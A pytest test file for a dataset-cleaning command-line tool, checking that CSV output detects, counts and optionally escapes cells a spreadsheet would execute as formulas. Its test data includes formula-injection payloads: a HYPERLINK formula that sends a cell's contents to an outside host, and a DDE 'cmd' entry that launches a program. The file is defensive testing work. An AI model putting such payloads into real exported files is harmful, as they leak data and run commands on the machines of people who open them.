"""Cells that a spreadsheet would run: kept and counted in CSV files, or escaped on request."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from hfclean.cli import main

RUN = [
    '=HYPERLINK("http://x.io?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1dSUM(1)",
    "- an apple",
]
PLAIN = ["-5", "+4.5", "-1,200.50", "-3e10", "-7 %", "a=b", "Apple.", "'=quoted", " =1", "", "5 - 3"]


def rows(tmp_path: Path, texts: list[str]) -> str:
    file = tmp_path / "rows.jsonl"
    file.write_text("".join(json.dumps({"instruction": "Say it.", "input": "", "output": t}) + "\n" for t in texts))
    return str(file)


def read(file: Path) -> list[str]:
    with file.open(newline="", encoding="utf-8") as f:
        return [row["output"] for row in csv.DictReader(f)]


def test_texts_stay_texts_and_those_that_would_run_are_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "x.csv"
    assert main(["convert", rows(tmp_path, RUN + PLAIN), "--to", "alpaca", "--out", str(out)]) == 0
    assert read(out) == RUN + PLAIN
    said = capsys.readouterr().err
    assert f"note: {len(RUN)} cells begin as a formula does" in said
    assert "--escape-formulas" in said
    assert main(["convert", rows(tmp_path, PLAIN), "--to", "alpaca", "--out", str(tmp_path / "y.csv")]) == 0
    assert "formula" not in capsys.readouterr().err


def test_escaped_cells_have_an_apostrophe_and_the_others_none(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "x.csv"
    command = ["convert", rows(tmp_path, RUN + PLAIN), "--to", "alpaca", "--out", str(out), "--escape-formulas"]
    assert main(command) == 0
    assert read(out) == [f"'{text}" for text in RUN] + PLAIN
    assert "note" not in capsys.readouterr().err


def test_a_column_may_be_named_as_a_formula(tmp_path: Path) -> None:
    file, out = tmp_path / "rows.jsonl", tmp_path / "x.csv"
    file.write_text(json.dumps({"instruction": "a", "output": "b", "=1+1": "c", "n": 1}) + "\n")
    assert main(["convert", str(file), "--to", "alpaca", "--out", str(out), "--escape-formulas"]) == 0
    with out.open(newline="") as f:
        head = next(csv.reader(f))
    assert "=1+1" not in head


def test_only_csv_files_have_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = str(tmp_path / "x.jsonl")
    assert main(["convert", rows(tmp_path, RUN), "--to", "alpaca", "--out", out, "--escape-formulas"]) == 2
    assert "--escape-formulas is for .csv files" in capsys.readouterr().err
    assert main(["convert", rows(tmp_path, RUN), "--to", "alpaca", "--out", out]) == 0
    assert "formula" not in capsys.readouterr().err


@pytest.mark.parametrize(
    ("command", "kept"),
    [
        (["dedupe", "--method", "exact"], RUN + PLAIN),
        (["select", "--method", "top", "--by", "n", "-n", "3"], RUN[:3]),
        (["pii", "--drop"], RUN + PLAIN),
    ],
    ids=lambda value: value[0],
)
def test_every_command_that_writes_csv_counts_and_escapes_them(
    command: list[str], kept: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file, out = tmp_path / "rows.jsonl", tmp_path / "x.csv"
    lines = [{"instruction": f"Say {n}.", "output": text, "n": -n} for n, text in enumerate(RUN + PLAIN)]
    file.write_text("".join(json.dumps(line) + "\n" for line in lines))
    verb, *how = command
    whole = [verb, str(file), *how, "--out", str(out)]
    assert main(whole) == 0
    assert f"note: {len([text for text in kept if text in RUN])} cells begin as a formula" in capsys.readouterr().err
    assert read(out) == kept
    assert main([*whole, "--overwrite", "--escape-formulas"]) == 0
    assert "note: " not in capsys.readouterr().err
    assert read(out) == [f"'{text}" if text in RUN else text for text in kept]
    assert main([verb, str(file), *how, "--out", str(tmp_path / "x.jsonl"), "--escape-formulas"]) == 2
